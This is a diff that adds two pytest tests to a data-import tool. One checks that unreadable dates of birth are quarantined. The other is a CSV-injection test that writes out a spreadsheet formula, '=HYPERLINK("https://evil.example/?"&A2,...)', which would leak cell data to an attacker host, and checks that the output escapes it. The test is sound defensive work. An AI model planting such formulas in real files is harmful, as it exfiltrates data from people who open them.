@@ -134,3 +134,49 @@ def test_the_cli_summary_says_how_many_and_where(tmp_path: Path) -> None:
     assert "7 rows were set aside" in result.output
     assert ".decisionframe/quarantine/latest.csv" in result.output
     assert "SSN-111" not in result.output
+
+
+def test_an_unreadable_date_of_birth_is_set_aside(tmp_path: Path) -> None:
+    """A date of birth that cannot be read refused the whole import even with quarantine
+    (#13 item 13): its row is now set aside like any bad row, and no band is invented."""
+    clients = (
+        "client_id,enrolled_on,born\nA,2025-01-02,1980-05-01\nB,2025-01-03,31st of May\n"
+        "C,2025-01-04,2001-02-03\n"
+    )
+    sources = (
+        "sources:\n  clients: {path: data/clients.csv, on_error: quarantine, columns: "
+        "{age_band: {column: born, age_bands: [18, 25, 65]}}}\n"
+    )
+    (tmp_path / "data").mkdir()
+    (tmp_path / "data" / "clients.csv").write_text(clients, "utf-8")
+    (tmp_path / "decisionframe.yaml").write_text(f"name: t\n{sources}", "utf-8")
+    project = Project(tmp_path)
+    result = project.import_data()
+    assert result.quarantined == 1
+    with project.open_store(read_only=True) as store:
+        logged = store.rows("SELECT table_name, line, rule, column_name FROM df_quarantine")
+        bands = store.rows("SELECT DISTINCT age_band FROM clients ORDER BY 1")
+    assert logged == [("clients", 3, "bad-date-of-birth", "born")]
+    assert bands == [("25-64",)]
+    listed = (tmp_path / result.quarantine_file).read_text()
+    assert "31st" not in listed
+
+
+def test_the_quarantine_list_opens_in_a_spreadsheet_without_formulas(tmp_path: Path) -> None:
+    """File and column names come from the source: a header `=HYPERLINK(...)` was written
+    as is, a live formula when the list is opened in a spreadsheet (CSV injection)."""
+    header = '=HYPERLINK("https://evil.example/?"&A2,"fix")'
+    clients = f'client_id,"{header.replace(chr(34), chr(34) * 2)}"\nA,2025-01-02\nB,soon\n'
+    sources = (
+        "sources:\n  clients: {path: data/clients.csv, on_error: quarantine, columns: "
+        "{enrolled_on: '" + header + "'}}\n"
+    )
+    (tmp_path / "data").mkdir()
+    (tmp_path / "data" / "clients.csv").write_text(clients, "utf-8")
+    (tmp_path / "decisionframe.yaml").write_text(f"name: t\n{sources}", "utf-8")
+    result = Project(tmp_path).import_data()
+    assert result.quarantined == 1
+    with (tmp_path / result.quarantine_file).open(newline="") as handle:
+        [row] = list(csv.DictReader(handle))
+    assert row["column"] == "'" + header
+    assert not any(str(v).startswith(("=", "+", "-", "@")) for v in row.values())
